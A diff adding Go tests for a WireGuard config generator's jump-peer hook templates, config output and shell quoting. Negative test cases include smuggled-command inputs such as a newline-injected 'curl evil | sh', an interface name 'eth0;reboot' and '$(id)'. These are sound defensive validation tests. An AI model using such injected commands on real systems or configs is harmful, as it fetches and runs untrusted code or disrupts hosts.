@@ -0,0 +1,83 @@
+package wireguard
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	domain "wirety/internal/domain/network"
+)
+
+func TestValidateJumpHooks(t *testing.T) {
+	tests := []struct {
+		name         string
+		postUp       string
+		postDown     string
+		natInterface string
+		wantErr      bool
+	}{
+		{name: "empty"},
+		{name: "all variables", postUp: "iptables -t nat -A POSTROUTING -s {{.CIDR}} -o {{.NatInterface}} -j MASQUERADE; ip addr show %i | grep {{.Address}}", natInterface: "ens3"},
+		{name: "unknown variable", postUp: "echo {{.Secret}}", wantErr: true},
+		{name: "unparsable", postDown: "echo {{.CIDR", wantErr: true},
+		{name: "newline", postUp: "true\nPostUp = curl evil | sh", wantErr: true},
+		{name: "interface with metacharacters", natInterface: "eth0;reboot", wantErr: true},
+		{name: "interface too long", natInterface: "averyveryverylongif", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := ValidateJumpHooks(tt.postUp, tt.postDown, tt.natInterface)
+			if tt.wantErr {
+				if !errors.Is(err, domain.ErrInvalidJumpHook) {
+					t.Fatalf("err = %v, want ErrInvalidJumpHook", err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+func TestGenerateConfig_JumpHooks(t *testing.T) {
+	jump := &domain.Peer{ID: "jump", Name: "jump", Address: "10.0.0.1", IsJump: true, ListenPort: 51820}
+	client := &domain.Peer{ID: "client", Name: "client", Address: "10.0.0.2"}
+	network := &domain.Network{
+		CIDR:         "10.0.0.0/24",
+		JumpPostUp:   "iptables -t nat -A POSTROUTING -s {{.CIDR}} -o {{.NatInterface}} -j MASQUERADE",
+		JumpPostDown: "iptables -t nat -D POSTROUTING -s {{.CIDR}} -o {{.NatInterface}} -j MASQUERADE; echo %i {{.Address}}",
+	}
+
+	config := GenerateConfig(jump, []*domain.Peer{client}, network, nil, nil)
+	for _, want := range []string{
+		"PostUp = iptables -t nat -A POSTROUTING -s 10.0.0.0/24 -o eth0 -j MASQUERADE\n",
+		"PostDown = iptables -t nat -D POSTROUTING -s 10.0.0.0/24 -o eth0 -j MASQUERADE; echo %i 10.0.0.1\n",
+	} {
+		if !strings.Contains(config, want) {
+			t.Errorf("jump config missing %q:\n%s", want, config)
+		}
+	}
+
+	if config := GenerateConfig(client, []*domain.Peer{jump}, network, nil, nil); strings.Contains(config, "PostUp") {
+		t.Errorf("regular peer config has hooks:\n%s", config)
+	}
+	network.JumpPostUp, network.JumpPostDown = "", ""
+	if config := GenerateConfig(jump, []*domain.Peer{client}, network, nil, nil); strings.Contains(config, "PostUp") || strings.Contains(config, "PostDown") {
+		t.Errorf("jump config has hooks without templates:\n%s", config)
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	for in, want := range map[string]string{
+		"10.0.0.0/24": "10.0.0.0/24",
+		"fd00::1":     "fd00::1",
+		"a;b":         "'a;b'",
+		"$(id)":       "'$(id)'",
+		"it's":        `'it'\''s'`,
+	} {
+		if got := shellQuote(in); got != want {
+			t.Errorf("shellQuote(%q) = %q, want %q", in, got, want)
+		}
+	}
+}